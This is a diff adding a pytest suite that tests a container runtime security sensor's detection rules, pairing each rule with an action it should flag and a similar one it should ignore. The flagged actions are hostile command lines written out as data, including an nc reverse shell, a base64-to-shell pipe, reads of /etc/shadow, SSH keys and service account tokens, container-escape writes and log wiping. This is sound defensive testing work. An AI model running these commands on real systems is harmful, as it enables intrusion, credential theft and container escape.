@@ -1,0 +1,203 @@
+# SPDX-License-Identifier: Apache-2.0
+"""The sensor's own rules (deploy/rules): of each a deed that it finds, once, and one much like it that it passes over."""
+import os
+import re
+
+import pytest
+
+from conftest import get
+from deeds import Deed, Findings, Site, settle, with_nonces
+from programs import ROOT, Running
+
+RULES = os.path.join(ROOT, "deploy", "rules")
+TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+
+# What a user's file adds, as deploy/rules/README.md shows it.
+INDICATORS = """
+- list: taffrail_malicious_addresses
+  items: [203.0.113.66]
+  override: {{items: append}}
+- list: taffrail_malicious_networks
+  items: [198.51.100.0/24]
+  override: {{items: append}}
+- list: taffrail_malicious_digests
+  items: ["{digest}"]
+  override: {{items: replace}}
+- rule: Attack tool
+  exceptions:
+    - {{name: programs, values: [[example.test/taffrail/busybox, hydra]]}}
+  override: {{exceptions: append}}
+"""
+
+# rule: what fires it, what must not; each a command, or what Deed takes after the rule.
+DEEDS = {
+    # --- 10-known-malicious.yaml
+    "Crypto miner": ("/d/xmrig -o pool", "/d/xmrig-exporter --port 9100"),
+    "Mining pool by port": ("/d/deed call 203.0.113.9 14444", "/d/deed call 10.99.0.1 14444"),
+    "Attack tool": ("/d/linpeas.sh -a", "/d/hydra -l root"),  # the second is an exception of INDICATORS
+    "Malicious address": ("/d/deed send 203.0.113.66 53", "/d/deed send 203.0.113.67 53"),
+    "Malicious network": ("/d/deed call 198.51.100.7 443", "/d/deed call 203.0.113.68 443"),
+    "Malicious image": (("/pause", (), "pause"), ("/bin/true", (), "first")),
+    # --- 20-escape.yaml
+    "Kernel helper path written": ("/d/deed open w /proc/sys/kernel/core_pattern", "/d/deed open r /proc/sys/kernel/core_pattern"),
+    "Cgroup release agent written": (("/d/deed open c+ /tmp/cg/release_agent", ("/bin/mkdir /tmp/cg",)), "/d/deed open c+ /tmp/release_agents"),
+    "Runtime socket called": ("/d/deed call-unix /tmp/docker.sock", "/d/deed call-unix /tmp/application.sock"),
+    "Disk or memory of the node opened": (("/d/deed open r+ /dev/sda", ("/d/deed open c+ /dev/sda",)),
+                                          ("/d/deed open r+ /dev/sdtool", ("/d/deed open c+ /dev/sdtool",))),
+    "Device or control file system mounted": ("/d/deed mount /dev/sda /mnt ext4", "/d/deed mount none /tmp tmpfs"),
+    "Namespace of another process entered": ("/d/deed setns /proc/self/ns/uts", "/d/deed open r /proc/self/ns/uts"),
+    "User namespace made": ("/d/deed unshare user", "/d/deed unshare fs"),
+    "Kernel module loaded": ("/d/deed module", "/d/deed open r /proc/modules"),
+    "BPF program loaded": ("/d/deed bpf load", "/d/deed bpf map"),
+    "File opened by its handle": ("/d/deed by-handle /tmp", "/d/deed open d+ /tmp"),
+    "Running executable overwritten": ("/d/deed open w /proc/self/exe", "/d/deed open r+ /proc/self/exe"),
+    "Root of another process opened": ("/d/deed open r+ /proc/1/root/etc/hostname", "/d/deed open r+ /proc/1/status"),
+    "Tool for containers or clusters": ("/d/kubectl get pods", "/d/kubectl-report"),
+    "Container with the node's own files": (("/bin/true", (), "node"), ("/bin/true", (), "first")),
+    "Privileged container": (("/bin/true", (), "first-privileged"), ("/bin/true", (), "first")),
+    # --- 30-credentials.yaml
+    "Service account token read by hand": ((f"/bin/cat {TOKEN}", (f"/bin/mkdir -p {os.path.dirname(TOKEN)}", f"/d/deed open c+ {TOKEN}")),
+                                           f"/d/deed open r+ {TOKEN}"),
+    "Password file read": ("/d/deed open r+ /etc/shadow", "/d/passwd open r+ /etc/shadow"),
+    "Private key or cloud credentials read by hand": (("/bin/cat /root/.ssh/id_rsa", ("/bin/mkdir -p /root/.ssh", "/d/deed open c+ /root/.ssh/id_rsa")),
+                                                      ("/bin/cat /root/.ssh/known_hosts", ("/d/deed open c+ /root/.ssh/known_hosts",))),
+    "Search for secrets": ("/bin/find /srv -name id_rsa", "/bin/find /srv -name index.html"),
+    "Environment of another process read": ("/d/deed look-into environ", "/d/deed open r+ /proc/self/environ"),
+    "Memory of another process opened": ("/d/deed look-into mem", "/d/deed open r+ /proc/self/mem"),
+    "Cloud metadata service called": ("/d/deed call 169.254.169.254 80", "/d/deed call 169.254.169.253 80"),
+    "Process traced": ("/d/deed ptrace attach", "/d/deed ptrace me"),
+    # --- 40-persistence.yaml
+    "Account or right to be root written": ("/d/deed open a+ /etc/passwd", "/d/useradd open a+ /etc/passwd"),
+    "Timer or service written": (("/d/deed open c+ /etc/cron.d/job", ("/bin/mkdir -p /etc/cron.d",)), "/d/deed open r+ /etc/cron.d/job"),
+    "Start file of a shell written": ("/d/deed open c+ /root/.bashrc", "/d/deed open c+ /root/bashrc.txt"),
+    "SSH keys for logins written": (("/d/deed open c+ /root/.ssh/authorized_keys", ("/bin/mkdir -p /root/.ssh",)), "/d/deed open r+ /root/.ssh/authorized_keys"),
+    "Library for all programs written": ("/d/deed open c+ /etc/ld.so.preload", "/d/deed open r+ /etc/ld.so.preload"),
+    "Setuid bit set": (("/d/deed chmod 4755 /tmp/program", ("/d/deed open c+ /tmp/program",)), "/d/deed chmod 1755 /tmp/program"),
+    "Polkit exploited": ("/d/pkexec", "/d/pkexec /bin/true"),
+    "Program that changes the user": ("/d/sudo -s", "/d/gosu user"),
+    "SSH server": ("/d/sshd -D", "/d/ssh-keygen -A"),
+    # --- 50-network.yaml
+    "Shell on a network connection": ("/d/deed on-connection /bin/sh -c :", "/d/deed on-connection /d/service"),
+    "Standard input became a network connection": ("/d/deed as-descriptor 0", "/d/deed as-descriptor 7"),
+    "Command line of a reverse shell": ("/d/nc -e /bin/sh 10.0.0.1 4444", "/d/nc -z 10.0.0.1 4444"),
+    "Scanner of networks": ("/d/nmap -sS 10.0.0.0/8", "/d/nmapped"),
+    "Tunnel or proxy": ("/d/chisel client 10.0.0.1", "/d/ssh -p 22 10.0.0.1"),
+    "Packet socket opened": ("/d/deed socket packet", "/d/deed socket inet"),
+    # --- 60-execution.yaml
+    "Program run from memory": ("/d/deed from-memory nothing", "/d/deed by-descriptor /d/deed"),
+    "Download run by a shell": ("/bin/sh -c ': | base64 -d | sh'", "/bin/sh -c ': | base64 -d'"),
+    "Shell below a server": ("/d/nginx spawn /bin/sh -c :", "/d/application spawn /bin/sh -c :"),
+    "Code in arguments below a server": ("/d/php-fpm spawn /d/python3 -c 1", "/d/application spawn /d/python3 -c 1"),
+    "Program below a database": ("/d/postgres spawn /d/id", "/d/postgres spawn /d/pg_dump"),
+    "Terminal for a shell": (("/bin/sh -c :", (), "terminal"), ("/bin/sh -c :", (), "first")),
+    "Terminal made inside the container": ("/d/python3 on-terminal /bin/sh -c :", "/d/sshd on-terminal /bin/sh -c :"),
+    "Package manager": ("/d/apt-get install -y curl", "/d/apt-get --version"),
+    "Package manager of a language": ("/d/pip install something", "/d/npm start"),
+    "Program that was not in the image": (("/tmp/dropped", ("/d/deed copy /d/deed /tmp/dropped",)), "/d/deed"),
+    "Program in a folder for passing files": ("/run/passing/deed", "/d/deed"),
+    "Hidden program": ("/d/.hidden", "/d/.local/bin/tool"),
+    # --- 70-files.yaml
+    "Log emptied or removed": (("/d/deed open t+ /var/log/auth.log", ("/bin/mkdir -p /var/log", "/d/deed open c+ /var/log/auth.log")),
+                               "/d/deed open a+ /var/log/auth.log"),
+    "Shell history emptied or removed": (("/d/deed unlink /root/.bash_history", ("/d/deed open c+ /root/.bash_history",)),
+                                         ("/d/deed open a+ /root/.ash_history", ("/d/deed open c+ /root/.ash_history",))),
+    "Data destroyed": ("/d/shred -u /tmp/file", "/d/shredder"),
+    "Hidden file in a common folder": ("/d/deed open c+ /tmp/.hidden", "/d/deed open c+ /tmp/.X0-lock"),
+    "Folder of programs changed": ("/d/deed open c+ /usr/bin/fresh", "/d/apk open c+ /usr/bin/packaged"),
+    "Page of a web server written": ("/d/nginx open c+ /srv/www/shell.php", "/d/nginx open c+ /srv/www/upload.txt"),
+}
+
+# Other ways to the same findings.
+FURTHER = [
+    Deed("Crypto miner", "/d/worker -o stratum+tcp://pool.test:3333"),
+    Deed("Log emptied or removed", "/d/deed unlink /var/log/wtmp", ("/bin/mkdir -p /var/log", "/d/deed open c+ /var/log/wtmp")),
+    Deed("Shell history emptied or removed", "/d/deed symlink /dev/null /root/.zsh_history"),
+    Deed("Hidden file in a common folder", "/d/deed mkdir /tmp/.kept"),
+    Deed("Folder of programs changed", "/d/deed rename /tmp/tool /usr/bin/moved", ("/d/deed open c+ /tmp/tool",)),
+    Deed("Command line of a reverse shell", "/bin/sh -c ': >&2; : /dev/tcp/10.0.0.1/4444'"),
+    Deed("Root of another process opened", "/d/deed open r+ /proc/self/fd/0/../status"),
+]
+
+NOT_HERE = {
+    "Mining pool by name": "the sensor knows no names of addresses",
+    "Malicious domain": "the sensor knows no names of addresses",
+}
+
+
+def deed(rule, given):
+    return Deed(rule, *((given,) if isinstance(given, str) else given))
+
+
+@pytest.fixture(scope="module")
+def outcome(runtime, lab, socket_path, tmp_path_factory):
+    """All deeds are done; the findings of each, by ("fires" or "passes", rule)."""
+    user = tmp_path_factory.mktemp("rules") / "user.yaml"
+    user.write_text(INDICATORS.format(digest=runtime.image_id("example.test/taffrail/pause:1")), encoding="ascii")
+    wanted = {("fires", rule): deed(rule, fires) for rule, (fires, _) in DEEDS.items()}
+    wanted.update({("passes", rule): deed(rule, passes) for rule, (_, passes) in DEEDS.items()})
+    wanted.update({("fires", further): further for further in FURTHER})
+    deeds = with_nonces(wanted.values())
+    pods, running = [], Running("taffrail-sensor", "--stdout", "--cri", socket_path, "--rules", RULES, "--rules", str(user),
+                                "--set", "rule_matching=all", "--set", "findings.limit=0")
+    try:
+        running.ready()
+        site = Site(os.path.join(lab, "deeds"), lambda **more: pods.append(runtime.pod(f"deeds-{len(pods)}", "shop", **more)) or pods[-1])
+        site.do(deeds)
+        settle(running)
+        yield {key: (nonce, site.done[nonce][0]) for key, nonce in zip(wanted, deeds)}, Findings(running, site)
+        assert running.end() == 0, running.log
+    finally:
+        for pod in pods:
+            pod.remove()
+        running.kill()
+
+
+def rules_of_the_pack():
+    names = []
+    for name in sorted(os.listdir(RULES)):
+        if name.endswith(".yaml"):
+            with open(os.path.join(RULES, name), encoding="utf-8") as file:
+                names += re.findall(r"^- rule: (.*)$", file.read(), re.M)
+    return names
+
+
+@pytest.mark.parametrize("rule", rules_of_the_pack())
+def test_deed_is_found_once(outcome, rule):
+    if rule in NOT_HERE:
+        pytest.skip(NOT_HERE[rule])
+    done, findings = outcome
+    nonce, code = done["fires", rule]
+    found = findings.of(nonce, rule)
+    others = [document["rule"]["name"] for document in findings.of(nonce)]
+    assert len(found) == 1, (code, others)
+    document = found[0]
+    assert document["event"]["kind"] == "alert" and document["event"]["severity"] in range(8) and document["message"]
+    assert document["rule"]["description"] and document["rule"]["ruleset"]
+    assert any(tag.startswith("mitre_") for tag in document["tags"]) and get(document, "threat.technique.id")
+    assert get(document, "taffrail.rule.priority") and document["orchestrator"]["namespace"] == "shop"
+    fields = get(document, "taffrail.rule.output_fields")
+    assert fields["container.name"] == document["container"]["name"] and "<NA>" not in document["message"].split("container=")[1]
+
+
+@pytest.mark.parametrize("further", FURTHER, ids=lambda further: further.command)
+def test_other_ways_are_found_too(outcome, further):
+    done, findings = outcome
+    nonce, code = done["fires", further]
+    assert len(findings.of(nonce, further.rule)) == 1, (code, [document["rule"]["name"] for document in findings.of(nonce)])
+
+
+@pytest.mark.parametrize("rule", rules_of_the_pack())
+def test_deed_much_like_it_is_passed_over(outcome, rule):
+    if rule in NOT_HERE:
+        pytest.skip(NOT_HERE[rule])
+    done, findings = outcome
+    nonce, code = done["passes", rule]
+    assert code == 0
+    assert findings.of(nonce, rule) == []
+
+
+def test_quiet_work_is_no_finding(outcome):
+    """Reading a page, sleeping, a plain connection within the cluster: nothing of all rules says a word."""
+    done, findings = outcome
+    for rule in ("Program that was not in the image", "Scanner of networks", "Packet socket opened", "Tunnel or proxy"):
+        assert findings.of(done["passes", rule][0]) == []
